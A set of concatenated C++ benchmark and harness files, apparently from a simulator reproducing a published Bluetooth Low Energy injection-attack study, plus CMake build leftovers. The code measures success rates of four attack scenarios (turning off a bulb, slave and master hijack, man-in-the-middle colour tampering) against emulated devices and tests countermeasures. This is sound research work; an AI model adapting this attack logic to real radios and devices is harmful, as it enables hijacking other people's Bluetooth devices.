            [&](bool ok) { wrote = ok; });
        world.run_until(5_s, [&] { return wrote; });
        if (wrote && !world.bulb.state().powered) {
            ++row_c.success;
            row_c.total_attempts += result->attempts;
            row_c.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("C: master hijack (drive slave)", row_c);

    // Scenario D: MitM, validated by on-the-fly RGB tampering.
    Row row_d;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9400 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_d.runs;
        const TimePoint t0 = world.scheduler.now();
        sim::RadioDeviceConfig r2_cfg;
        r2_cfg.name = "attacker2";
        r2_cfg.position = {1.0, 1.732};
        AttackerRadio radio2(world.scheduler, world.medium, world.rng.fork(), r2_cfg);
        ScenarioD scenario(*world.session, radio2);
        scenario.tamper = [](Bytes sdu, bool from_master) -> std::optional<Bytes> {
            if (from_master && sdu.size() >= 7 && sdu[0] == 0x12 &&
                sdu[3] == gatt::LightbulbProfile::kSetColor) {
                sdu[4] = 0x11;
                sdu[5] = 0x22;
                sdu[6] = 0x33;
            }
            return sdu;
        };
        std::optional<ScenarioD::Result> result;
        scenario.execute([&](const ScenarioD::Result& r) { result = r; });
        world.run_until(120_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        bool wrote = false;
        world.central->gatt().write(world.bulb.control_handle(),
                                    gatt::LightbulbProfile::cmd_set_color(200, 100, 50),
                                    [&](bool ok) { wrote = ok; });
        world.run_until(10_s, [&] { return wrote; });
        if (wrote && world.bulb.state().r == 0x11 && world.bulb.state().g == 0x22) {
            ++row_d.success;
            row_d.total_attempts += result->attempts;
            row_d.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("D: MitM (tamper RGB in flight)", row_d);

    std::printf(
        "\nExpected shape (paper): all four scenarios succeed against the\n"
        "emulated devices; B-D leave the surviving victims unaware.\n");
    return 0;
}
