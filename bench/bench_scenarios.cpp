// Paper §VI: the four attack scenarios, run end-to-end 20 times each and
// validated against ground truth (device state / who stays connected). The
// paper reports these qualitatively ("successfully implemented for the three
// devices"); this harness adds measured success rates, attempt counts and
// time-to-takeover.
#include <cstdio>
#include <memory>
#include <optional>

#include "core/scenarios.hpp"
#include "gatt/builder.hpp"
#include "world/world.hpp"

namespace {

using namespace injectable;
using namespace injectable::world;
using namespace ble;

// The §VI scenarios run on the paper-baseline world (fading office, declared
// 50 / real 30 ppm master) with a silent master and a generous supervision
// timeout, so takeover time measures the attack rather than traffic luck.
WorldSpec scenario_spec(std::uint64_t seed) {
    WorldSpec spec;
    spec.seed = seed;
    spec.supervision_timeout = 300;
    spec.master_traffic_every_events = 0;
    return spec;
}

struct ScenarioWorld : World {
    explicit ScenarioWorld(std::uint64_t seed) : World(scenario_spec(seed)) {}

    bool establish_and_sync() {
        if (!establish_and_sniff(5_s)) return false;
        start_session(400_ms);
        return true;
    }
};

struct Row {
    int runs = 0;
    int success = 0;
    long total_attempts = 0;
    double total_takeover_ms = 0;
};

void print_row(const char* name, const Row& row) {
    std::printf("%-34s %5d/%-3d %10.1f %14.0f\n", name, row.success, row.runs,
                row.runs ? static_cast<double>(row.total_attempts) / row.success : 0.0,
                row.success ? row.total_takeover_ms / row.success : 0.0);
}

}  // namespace

int main() {
    std::printf("=== Attack scenarios A-D (paper §VI), 20 runs each ===\n\n");
    std::printf("%-34s %9s %10s %14s\n", "scenario", "success", "attempts",
                "takeover (ms)");

    constexpr int kRuns = 20;

    // Scenario A: illegitimate use of a device functionality.
    Row row_a;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9100 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_a.runs;
        const TimePoint t0 = world.scheduler.now();
        ScenarioA scenario(*world.session);
        std::optional<ScenarioA::Result> result;
        scenario.inject_write(world.bulb.control_handle(),
                              gatt::LightbulbProfile::cmd_set_power(false),
                              [&](const ScenarioA::Result& r) { result = r; });
        world.run_until(60_s, [&] { return result.has_value(); });
        if (result && result->success && !world.bulb.state().powered) {
            ++row_a.success;
            row_a.total_attempts += result->attempts;
            row_a.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("A: trigger feature (bulb off)", row_a);

    // Scenario B: slave hijack, validated by the forged Device Name read.
    Row row_b;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9200 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_b.runs;
        const TimePoint t0 = world.scheduler.now();
        att::AttServer fake;
        gatt::GattBuilder builder(fake);
        const auto name_handle = gatt::add_gap_service(builder, "Hacked");
        ScenarioB scenario(*world.session, fake);
        std::optional<ScenarioB::Result> result;
        scenario.execute([&](const ScenarioB::Result& r) { result = r; });
        world.run_until(60_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        std::optional<Bytes> name;
        world.central->gatt().read(name_handle,
                                   [&](std::optional<Bytes> v) { name = std::move(v); });
        world.run_until(5_s, [&] { return name.has_value(); });
        if (name && std::string(name->begin(), name->end()) == "Hacked" &&
            world.central->connected()) {
            ++row_b.success;
            row_b.total_attempts += result->attempts;
            row_b.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("B: slave hijack (serve 'Hacked')", row_b);

    // Scenario C: master hijack, validated by driving the bulb.
    Row row_c;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9300 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_c.runs;
        const TimePoint t0 = world.scheduler.now();
        ScenarioC scenario(*world.session);
        std::optional<ScenarioC::Result> result;
        scenario.execute([&](const ScenarioC::Result& r) { result = r; });
        world.run_until(120_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        bool wrote = false;
        scenario.hijacked_master()->client().write(
            world.bulb.control_handle(), gatt::LightbulbProfile::cmd_set_power(false),
            [&](bool ok) { wrote = ok; });
        world.run_until(5_s, [&] { return wrote; });
        if (wrote && !world.bulb.state().powered) {
            ++row_c.success;
            row_c.total_attempts += result->attempts;
            row_c.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("C: master hijack (drive slave)", row_c);

    // Scenario D: MitM, validated by on-the-fly RGB tampering.
    Row row_d;
    for (int i = 0; i < kRuns; ++i) {
        ScenarioWorld world(9400 + static_cast<std::uint64_t>(i));
        if (!world.establish_and_sync()) continue;
        ++row_d.runs;
        const TimePoint t0 = world.scheduler.now();
        const auto radio2 = world.make_attacker("attacker2", {1.0, 1.732});
        ScenarioD scenario(*world.session, *radio2);
        scenario.tamper = [](Bytes sdu, bool from_master) -> std::optional<Bytes> {
            if (from_master && sdu.size() >= 7 && sdu[0] == 0x12 &&
                sdu[3] == gatt::LightbulbProfile::kSetColor) {
                sdu[4] = 0x11;
                sdu[5] = 0x22;
                sdu[6] = 0x33;
            }
            return sdu;
        };
        std::optional<ScenarioD::Result> result;
        scenario.execute([&](const ScenarioD::Result& r) { result = r; });
        world.run_until(120_s, [&] { return result.has_value(); });
        if (!result || !result->success) continue;
        bool wrote = false;
        world.central->gatt().write(world.bulb.control_handle(),
                                    gatt::LightbulbProfile::cmd_set_color(200, 100, 50),
                                    [&](bool ok) { wrote = ok; });
        world.run_until(10_s, [&] { return wrote; });
        if (wrote && world.bulb.state().r == 0x11 && world.bulb.state().g == 0x22) {
            ++row_d.success;
            row_d.total_attempts += result->attempts;
            row_d.total_takeover_ms += to_ms(world.scheduler.now() - t0);
        }
    }
    print_row("D: MitM (tamper RGB in flight)", row_d);

    std::printf(
        "\nExpected shape (paper): all four scenarios succeed against the\n"
        "emulated devices; B-D leave the surviving victims unaware.\n");
    return 0;
}
