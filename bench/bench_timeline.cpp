// Figures 1 & 2: measured connection-event timeline — two consecutive
// connection events (anchor points, T_IFS spacing) and a connection-update
// procedure (old interval, transmit window at the instant, new interval).
// The trace below is produced by the actual simulated stack, not drawn.
#include <cstdio>
#include <string>
#include <variant>
#include <vector>

#include "obs/bus.hpp"
#include "world/world.hpp"

int main() {
    using namespace injectable::world;
    using namespace ble;

    WorldSpec spec = WorldSpec::protocol_test();
    spec.seed = 42;
    spec.hop_interval = 40;  // 50 ms
    spec.supervision_timeout = 300;
    spec.master_clock_ppm = 20.0;  // stock 20 ppm crystals on both victims
    spec.peripheral_name = "slave";
    spec.central_name = "master";
    spec.central_pos = {1.0, 0.0};
    World world(spec);

    struct Tx {
        std::string who;
        TimePoint start;
        Duration dur;
        sim::Channel channel;
    };
    std::vector<Tx> txs;
    obs::ScopedSubscription sub(world.bus(), [&](const obs::Event& event) {
        if (const auto* tx = std::get_if<obs::TxStart>(&event)) {
            txs.push_back(Tx{std::string(tx->sender), tx->time, tx->duration, tx->channel});
        }
    });

    world.begin_connection();
    world.run_until(2_s, [&] {
        return world.central->connected() && world.peripheral->connected();
    });

    std::printf("=== Fig. 1: two consecutive connection events (measured) ===\n");
    std::printf("hop interval 40 -> connInterval = 50 ms; T_IFS = 150 us\n\n");
    txs.clear();
    world.run_for(120'000'000LL);  // ~2 events
    TimePoint t0 = txs.empty() ? 0 : txs.front().start;
    for (const auto& tx : txs) {
        std::printf("  t=%10.3f ms  ch %2u  %-6s frame (%3.0f us)%s\n",
                    to_ms(tx.start - t0), tx.channel, tx.who.c_str(), to_us(tx.dur),
                    tx.who == "master" ? "  <- anchor point" : "");
    }

    std::printf("\n=== Fig. 2: connection update procedure (measured) ===\n");
    link::ConnectionUpdateInd update;
    update.interval = 16;  // -> 20 ms
    update.win_offset = 2;
    update.win_size = 1;
    update.timeout = 300;
    world.central->connection()->start_connection_update(update, /*instant_delta=*/3);
    std::printf("LL_CONNECTION_UPDATE_IND sent: new interval 20 ms, WinOffset 2, "
                "instant = counter + 3\n\n");
    txs.clear();
    world.run_for(300'000'000LL);
    t0 = txs.empty() ? 0 : txs.front().start;
    TimePoint last_master = 0;
    for (const auto& tx : txs) {
        if (tx.who != "master") continue;
        std::printf("  anchor t=%10.3f ms  ch %2u  (delta %7.3f ms)\n",
                    to_ms(tx.start - t0), tx.channel,
                    last_master == 0 ? 0.0 : to_ms(tx.start - last_master));
        last_master = tx.start;
    }
    std::printf(
        "\nExpected: 50 ms anchor spacing before the instant; one gap of\n"
        "50 + 1.25 + 2*1.25 = 53.75 ms (transmit window) at the instant; 20 ms\n"
        "spacing afterwards.\n");
    return 0;
}
