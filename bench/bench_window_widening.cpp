// Figures 3/4 and Eq. 4/5: the window-widening values that create the
// injection opportunity, tabulated over Hop Interval and the clock
// accuracies involved — plus the share of the injected frame that can be
// transmitted before the legitimate master starts.
#include <cstdio>

#include "world/experiment.hpp"
#include "link/connection.hpp"

int main() {
    using namespace ble;

    std::printf("=== Window widening (paper Eq. 4/5, Figs. 3-4) ===\n\n");
    std::printf("w = (SCA_M + SCA_S)/1e6 * connInterval + 32 us\n\n");

    std::printf("%-14s", "hop interval");
    const double master_scas[] = {20, 50, 150, 250, 500};
    for (double sca : master_scas) std::printf("  M=%3.0fppm", sca);
    std::printf("\n");
    for (std::uint16_t hop : {6, 25, 36, 50, 75, 100, 150, 320, 800, 3200}) {
        std::printf("%5u (%7.1f ms)", hop, hop * 1.25);
        for (double sca : master_scas) {
            const Duration w =
                link::window_widening(sca, 20.0, connection_interval(hop));
            std::printf(" %7.1fus", to_us(w));
        }
        std::printf("\n");
    }

    std::printf(
        "\nHead start for the paper's 22-byte / 176 us injected frame\n"
        "(slave-assumed SCA 20 ppm; clean share = fraction of the frame that\n"
        "airs before the legitimate anchor):\n\n");
    std::printf("%-16s %10s %12s %12s\n", "hop interval", "w (us)", "head start",
                "clean share");
    for (std::uint16_t hop : {25, 50, 75, 100, 125, 150}) {
        const Duration w = link::window_widening(250.0, 20.0, connection_interval(hop));
        const double head = to_us(w);
        std::printf("%5u (%6.2f ms) %10.1f %10.1fus %11.1f%%\n", hop, hop * 1.25,
                    to_us(w), head, 100.0 * head / 176.0);
    }
    std::printf(
        "\nNone of these windows fit the whole 176 us frame: every injection in\n"
        "experiments 1-3 races into a collision, the paper's deliberate worst\n"
        "case (\"none of the window widening values ... allowed an injected\n"
        "frame to be entirely transmitted without a collision\").\n");
    return 0;
}
