#include "experiment.hpp"

#include <cmath>
#include <cstdlib>

namespace injectable::bench {

using namespace ble;

namespace {
std::uint16_t supervision_field(std::uint16_t hop_interval) {
    // >= 6 connection intervals, >= 1 s; in 10 ms units.
    const auto ms = static_cast<std::uint32_t>(hop_interval) * 125 / 100;
    return static_cast<std::uint16_t>(std::clamp<std::uint32_t>(ms * 8 / 10, 100, 3200));
}
}  // namespace

RunResult run_injection_experiment(const ExperimentConfig& config, std::uint64_t seed) {
    RunResult result;
    Rng rng(seed);
    sim::Scheduler scheduler;

    sim::PathLossParams pl_params;
    pl_params.fading_sigma_db = config.fading_sigma_db;
    sim::PathLossModel path_loss(pl_params);
    for (const auto& wall : config.walls) path_loss.add_wall(wall);
    sim::RadioMedium medium(scheduler, rng.fork(), std::move(path_loss),
                            sim::CaptureModel(config.capture));

    host::PeripheralConfig p_cfg;
    p_cfg.name = "bulb";
    p_cfg.radio.position = config.peripheral_pos;
    p_cfg.radio.clock.sca_ppm = config.slave_sca_ppm;
    p_cfg.widening_scale = config.widening_scale;
    p_cfg.support_csa2 = config.use_csa2;
    host::Peripheral peripheral(scheduler, medium, rng.fork(), p_cfg);
    gatt::LightbulbProfile bulb;
    bulb.install(peripheral.att_server());
    // A benign vendor attribute the Central writes telemetry to (real hosts
    // are chatty; this keeps the master's frames realistically sized without
    // touching the bulb's command counter used for ground truth).
    att::Attribute scratch;
    scratch.type = att::Uuid::from16(0xFF77);
    scratch.writable = true;
    const std::uint16_t scratch_handle = peripheral.att_server().add(std::move(scratch));

    host::CentralConfig c_cfg;
    c_cfg.name = "phone";
    c_cfg.radio.position = config.central_pos;
    c_cfg.radio.clock.sca_ppm = config.master_clock_ppm;
    c_cfg.declared_sca_ppm = config.master_sca_ppm;
    c_cfg.support_csa2 = config.use_csa2;
    host::Central central(scheduler, medium, rng.fork(), c_cfg);

    sim::RadioDeviceConfig a_cfg;
    a_cfg.name = "attacker";
    a_cfg.position = config.attacker_pos;
    a_cfg.clock.sca_ppm = 20.0;
    AttackerRadio attacker(scheduler, medium, rng.fork(), a_cfg);

    // Phase 1: sniff the CONNECT_REQ while the connection establishes.
    AdvSniffer sniffer(attacker);
    std::optional<SniffedConnection> sniffed;
    sniffer.on_connection = [&](const SniffedConnection& conn,
                                const link::ConnectReqPdu&) { sniffed = conn; };
    sniffer.start();
    peripheral.start();
    link::ConnectionParams params;
    params.hop_interval = config.hop_interval;
    params.timeout = supervision_field(config.hop_interval);
    central.connect(peripheral.address(), params);

    const TimePoint establish_deadline = scheduler.now() + 10_s;
    while (scheduler.now() < establish_deadline &&
           !(sniffed && central.connected() && peripheral.connected())) {
        if (!scheduler.run_one()) break;
    }
    sniffer.stop();
    result.established = central.connected() && peripheral.connected();
    result.sniffed = sniffed.has_value();
    if (!result.established || !result.sniffed) return result;

    if (config.encrypt_link) {
        crypto::Aes128Key ltk{};
        for (std::size_t i = 0; i < ltk.size(); ++i) {
            ltk[i] = static_cast<std::uint8_t>(rng.next_below(256));
        }
        peripheral.set_ltk(ltk);
        central.start_encryption(ltk);
        scheduler.run_until(scheduler.now() + 10 * connection_interval(config.hop_interval));
        if (!central.encrypted()) return result;  // setup failure
    }

    // Background host traffic (GATT name reads) so master frames carry real
    // payloads instead of empty polls, like the paper's testbed.
    std::function<void()> traffic_pump;
    sim::EventId traffic_timer = sim::kInvalidEvent;
    if (config.master_traffic_every_events > 0) {
        const Duration period = connection_interval(config.hop_interval) *
                                config.master_traffic_every_events;
        int beat = 0;
        traffic_pump = [&scheduler, &central, &bulb, &traffic_timer, period,
                        &traffic_pump, scratch_handle, beat]() mutable {
            if (central.connected() && central.gatt().queued() < 2) {
                if (++beat % 2 == 0) {
                    central.gatt().read(bulb.name_handle(), nullptr);
                } else {
                    central.gatt().write(scratch_handle, Bytes(18, 0x5A), nullptr);
                }
            }
            traffic_timer = scheduler.schedule_after(period, [&traffic_pump] {
                traffic_pump();
            });
        };
        traffic_pump();
    }

    // Phase 2: synchronise and inject.
    AttackSession session(attacker, *sniffed, config.attack);
    session.on_connection_lost = [&result] { result.session_lost = true; };
    peripheral.on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    central.on_disconnected = [&result](link::DisconnectReason) {
        result.victim_disconnected = true;
    };
    session.start();
    scheduler.run_until(scheduler.now() +
                        8 * connection_interval(config.hop_interval));

    Bytes payload;
    if (config.payload_override) {
        payload = *config.payload_override;
    } else if (config.ll_payload_size >= 11) {
        // Observable frame: a Write Command driving the bulb, padded to the
        // requested LL payload size — gives ground truth for the heuristic.
        const std::size_t pad = config.ll_payload_size - 11;
        payload = att_over_l2cap(att::make_write_cmd(
            bulb.control_handle(),
            gatt::LightbulbProfile::cmd_set_color(
                static_cast<std::uint8_t>(rng.next_below(256)),
                static_cast<std::uint8_t>(rng.next_below(256)),
                static_cast<std::uint8_t>(rng.next_below(256)), pad)));
    } else {
        // Too short for an ATT request: raw LL data (still exercises the
        // full race + heuristic; the slave LL-acks and the host discards).
        payload.resize(config.ll_payload_size);
        for (auto& b : payload) b = static_cast<std::uint8_t>(rng.next_below(256));
    }

    const bool observable = !config.payload_override && config.ll_payload_size >= 11;
    int commands_seen = bulb.state().commands_received;
    session.on_attempt = [&](const AttemptReport& report) {
        result.attempts = report.attempt;  // progress even if the budget cuts us off
        if (config.on_attempt_hook) config.on_attempt_hook(report);
        if (!observable) return;
        const bool accepted = bulb.state().commands_received > commands_seen;
        commands_seen = bulb.state().commands_received;
        if (report.verdict.success() && !accepted) ++result.heuristic_false_positives;
        if (!report.verdict.success() && accepted) ++result.heuristic_false_negatives;
    };

    std::optional<bool> outcome;
    AttackSession::InjectionRequest request;
    request.llid = config.llid;
    request.payload = payload;
    request.max_attempts = config.max_attempts;
    request.done = [&](bool ok, int attempts) {
        outcome = ok;
        result.attempts = attempts;
    };
    session.inject(std::move(request));

    // Worst case: ~2 events per attempt plus resync overhead.
    const Duration budget = connection_interval(config.hop_interval) *
                            (4 * config.max_attempts + 64);
    const TimePoint attack_deadline = scheduler.now() + budget;
    while (scheduler.now() < attack_deadline && !outcome) {
        if (!scheduler.run_one()) break;
    }
    if (traffic_timer != sim::kInvalidEvent) scheduler.cancel(traffic_timer);
    result.success = outcome.value_or(false);
    return result;
}

RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                              std::uint64_t seed, int tries) {
    RunResult result;
    for (int t = 0; t < tries; ++t) {
        result = run_injection_experiment(config, seed + 7919u * static_cast<std::uint64_t>(t));
        // A missed CONNECT_REQ or failed pairing is an experiment-setup
        // failure, not an attack outcome: the paper's operator re-runs the
        // connection. Attack failures (lost sync, exhausted attempts) stand.
        if (result.established && result.sniffed) return result;
    }
    return result;
}

std::vector<RunResult> run_series(const ExperimentConfig& config) {
    int runs = config.runs;
    // INJECTABLE_RUNS overrides the paper's 25 runs/configuration (e.g. for
    // smoother statistics or a quicker smoke pass).
    if (const char* env = std::getenv("INJECTABLE_RUNS")) {
        const int parsed = std::atoi(env);
        if (parsed > 0) runs = parsed;
    }
    std::vector<RunResult> results;
    results.reserve(static_cast<std::size_t>(runs));
    for (int i = 0; i < runs; ++i) {
        results.push_back(run_injection_experiment_with_retry(
            config, config.base_seed + static_cast<std::uint64_t>(i), 3));
    }
    return results;
}

Stats summarize(const std::vector<RunResult>& results) {
    Stats stats;
    std::vector<double> attempts;
    for (const auto& r : results) {
        ++stats.n;
        if (r.success) {
            ++stats.successes;
            attempts.push_back(static_cast<double>(r.attempts));
        }
    }
    if (attempts.empty()) return stats;
    std::sort(attempts.begin(), attempts.end());
    auto quantile = [&](double q) {
        const double idx = q * static_cast<double>(attempts.size() - 1);
        const auto lo = static_cast<std::size_t>(idx);
        const std::size_t hi = std::min(lo + 1, attempts.size() - 1);
        const double frac = idx - static_cast<double>(lo);
        return attempts[lo] * (1.0 - frac) + attempts[hi] * frac;
    };
    stats.min = attempts.front();
    stats.q1 = quantile(0.25);
    stats.median = quantile(0.5);
    stats.q3 = quantile(0.75);
    stats.max = attempts.back();
    double sum = 0;
    for (double a : attempts) sum += a;
    stats.mean = sum / static_cast<double>(attempts.size());
    return stats;
}

void print_stats_header(const std::string& variable) {
    std::printf("%-18s %8s %6s %6s %7s %6s %6s %7s\n", variable.c_str(), "success",
                "min", "Q1", "median", "Q3", "max", "mean");
}

void print_stats_row(const std::string& label, const Stats& stats) {
    std::printf("%-18s %5d/%-2d %6.0f %6.1f %7.1f %6.1f %6.0f %7.2f\n", label.c_str(),
                stats.successes, stats.n, stats.min, stats.q1, stats.median, stats.q3,
                stats.max, stats.mean);
}

}  // namespace injectable::bench
