// Shared harness for the paper's sensitivity experiments (§VII, Fig. 9).
//
// One "run" mirrors one of the paper's measurements: the legitimate Central
// establishes a fresh connection with the Peripheral, the attacker sniffs the
// CONNECT_REQ, synchronises, and injects until the Eq. 7 heuristic reports
// success; we record the number of attempts. 25 runs per configuration (as in
// the paper), each with a fresh seed (fresh clock drifts and fading draws).
//
// Unlike the protocol tests, experiments run with *fading enabled*
// (log-normal, sigma 5 dB): the paper's testbed is a realistic office
// environment ("including several other BLE devices and multiple WiFi
// routers"), and per-frame fading is what re-rolls the collision outcome on
// every hop.
#pragma once

#include <algorithm>
#include <cstdio>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "core/attacker_radio.hpp"
#include "core/forge.hpp"
#include "core/session.hpp"
#include "core/sniffer.hpp"
#include "gatt/profiles.hpp"
#include "host/central.hpp"
#include "host/peripheral.hpp"

namespace injectable::bench {

struct ExperimentConfig {
    std::string name = "experiment";
    int runs = 25;                  // connections per configuration (paper: 25)
    int max_attempts = 1500;         // per-run attempt budget
    std::uint64_t base_seed = 1000;

    // Connection parameters.
    std::uint16_t hop_interval = 36;
    /// SCA the master *declares* in CONNECT_REQ (sets the widening window).
    double master_sca_ppm = 50.0;
    /// The master crystal's real envelope (typically well below declared).
    double master_clock_ppm = 30.0;
    double slave_sca_ppm = 20.0;
    /// Negotiate Channel Selection Algorithm #2 between the victims.
    bool use_csa2 = false;

    // Geometry (paper Fig. 8: 2 m equilateral triangle by default).
    ble::sim::Position peripheral_pos{0.0, 0.0};
    ble::sim::Position central_pos{2.0, 0.0};
    ble::sim::Position attacker_pos{1.0, 1.732};
    std::vector<ble::sim::Wall> walls;

    // RF model.
    double fading_sigma_db = 6.0;
    ble::sim::CaptureParams capture{};

    // Injected frame: raw LL payload of this size (paper §VII-B varies it).
    // The default 12-byte payload gives the paper's 22-byte / 176 µs frame.
    std::size_t ll_payload_size = 12;
    /// When set, inject this exact LL payload instead (e.g. a real ATT write).
    std::optional<ble::Bytes> payload_override;
    ble::link::Llid llid = ble::link::Llid::kDataStart;

    // Attacker model (TX turnaround latency, assumed slave SCA...).
    AttackParams attack{};

    // Legitimate host traffic: the Central keeps issuing GATT reads like a
    // real host stack (the paper's Mirage/smartphone masters were not silent
    // pollers). Expressed in connection events between requests; 0 disables.
    int master_traffic_every_events = 2;

    // Victim-side counter-measure knob (§VIII solution 1).
    double widening_scale = 1.0;

    /// Victim-side encryption (§VIII solution 2): when set, the pair turns on
    /// LL encryption right after connecting, before the attack starts.
    bool encrypt_link = false;

    /// Per-attempt tap for outcome-analysis benches.
    std::function<void(const AttemptReport&)> on_attempt_hook;
};

struct RunResult {
    bool success = false;
    int attempts = 0;
    bool sniffed = false;
    bool established = false;
    bool session_lost = false;       ///< attacker lost sync with the target
    bool victim_disconnected = false;  ///< a victim dropped during the attack
    /// God-view: per-attempt ground truth (did the slave accept the frame),
    /// used to score the Eq. 7 heuristic itself.
    int heuristic_false_positives = 0;
    int heuristic_false_negatives = 0;
};

struct Stats {
    int n = 0;
    int successes = 0;
    double min = 0, q1 = 0, median = 0, q3 = 0, max = 0, mean = 0;
};

/// Quartile summary of the attempts-before-success samples (successes only).
[[nodiscard]] Stats summarize(const std::vector<RunResult>& results);

/// Runs one full measurement (connection + sniff + inject).
[[nodiscard]] RunResult run_injection_experiment(const ExperimentConfig& config,
                                                 std::uint64_t seed);

/// Re-runs the setup phase (connection + sniff) on setup failures, as the
/// paper's operator would; attack outcomes are never retried.
[[nodiscard]] RunResult run_injection_experiment_with_retry(const ExperimentConfig& config,
                                                            std::uint64_t seed, int tries);

/// Runs `config.runs` measurements with consecutive seeds.
[[nodiscard]] std::vector<RunResult> run_series(const ExperimentConfig& config);

/// Prints one row of a paper-style results table.
void print_stats_row(const std::string& label, const Stats& stats);
void print_stats_header(const std::string& variable);

}  // namespace injectable::bench
