file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_csa2.dir/bench_ablation_csa2.cpp.o"
  "CMakeFiles/bench_ablation_csa2.dir/bench_ablation_csa2.cpp.o.d"
  "bench_ablation_csa2"
  "bench_ablation_csa2.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_csa2.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
