# Empty compiler generated dependencies file for bench_ablation_csa2.
# This may be replaced when dependencies are built.
