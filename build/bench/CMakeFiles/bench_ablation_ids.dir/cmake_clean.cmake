file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_ids.dir/bench_ablation_ids.cpp.o"
  "CMakeFiles/bench_ablation_ids.dir/bench_ablation_ids.cpp.o.d"
  "bench_ablation_ids"
  "bench_ablation_ids.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_ids.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
