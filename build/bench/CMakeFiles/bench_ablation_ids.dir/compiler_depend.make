# Empty compiler generated dependencies file for bench_ablation_ids.
# This may be replaced when dependencies are built.
