file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_sca.dir/bench_ablation_sca.cpp.o"
  "CMakeFiles/bench_ablation_sca.dir/bench_ablation_sca.cpp.o.d"
  "bench_ablation_sca"
  "bench_ablation_sca.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_sca.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
