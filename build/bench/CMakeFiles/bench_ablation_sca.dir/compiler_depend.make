# Empty compiler generated dependencies file for bench_ablation_sca.
# This may be replaced when dependencies are built.
