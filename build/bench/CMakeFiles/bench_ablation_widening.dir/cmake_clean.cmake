file(REMOVE_RECURSE
  "CMakeFiles/bench_ablation_widening.dir/bench_ablation_widening.cpp.o"
  "CMakeFiles/bench_ablation_widening.dir/bench_ablation_widening.cpp.o.d"
  "bench_ablation_widening"
  "bench_ablation_widening.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_ablation_widening.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
