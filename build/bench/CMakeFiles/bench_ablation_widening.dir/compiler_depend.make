# Empty compiler generated dependencies file for bench_ablation_widening.
# This may be replaced when dependencies are built.
