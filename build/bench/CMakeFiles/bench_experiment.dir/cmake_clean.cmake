file(REMOVE_RECURSE
  "CMakeFiles/bench_experiment.dir/experiment.cpp.o"
  "CMakeFiles/bench_experiment.dir/experiment.cpp.o.d"
  "libbench_experiment.a"
  "libbench_experiment.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_experiment.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
