file(REMOVE_RECURSE
  "libbench_experiment.a"
)
