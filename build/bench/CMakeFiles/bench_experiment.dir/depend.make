# Empty dependencies file for bench_experiment.
# This may be replaced when dependencies are built.
