file(REMOVE_RECURSE
  "CMakeFiles/bench_experiment1_hop_interval.dir/bench_experiment1_hop_interval.cpp.o"
  "CMakeFiles/bench_experiment1_hop_interval.dir/bench_experiment1_hop_interval.cpp.o.d"
  "bench_experiment1_hop_interval"
  "bench_experiment1_hop_interval.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_experiment1_hop_interval.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
