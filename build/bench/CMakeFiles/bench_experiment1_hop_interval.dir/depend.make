# Empty dependencies file for bench_experiment1_hop_interval.
# This may be replaced when dependencies are built.
