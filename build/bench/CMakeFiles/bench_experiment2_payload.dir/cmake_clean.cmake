file(REMOVE_RECURSE
  "CMakeFiles/bench_experiment2_payload.dir/bench_experiment2_payload.cpp.o"
  "CMakeFiles/bench_experiment2_payload.dir/bench_experiment2_payload.cpp.o.d"
  "bench_experiment2_payload"
  "bench_experiment2_payload.pdb"
)

# Per-language clean rules from dependency scanning.
foreach(lang CXX)
  include(CMakeFiles/bench_experiment2_payload.dir/cmake_clean_${lang}.cmake OPTIONAL)
endforeach()
