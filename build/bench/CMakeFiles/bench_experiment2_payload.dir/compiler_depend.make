# Empty compiler generated dependencies file for bench_experiment2_payload.
# This may be replaced when dependencies are built.
