
# Consider dependencies only in project.
set(CMAKE_DEPENDS_IN_PROJECT_ONLY OFF)

# The set of languages for which implicit dependencies are needed:
set(CMAKE_DEPENDS_LANGUAGES
  )

# The set of dependency files which are needed:
set(CMAKE_DEPENDS_DEPENDENCY_FILES
  "/root/repo/bench/bench_experiment3_distance.cpp" "bench/CMakeFiles/bench_experiment3_distance.dir/bench_experiment3_distance.cpp.o" "gcc" "bench/CMakeFiles/bench_experiment3_distance.dir/bench_experiment3_distance.cpp.o.d"
  )

# Targets to which this target links.
set(CMAKE_TARGET_LINKED_INFO_FILES
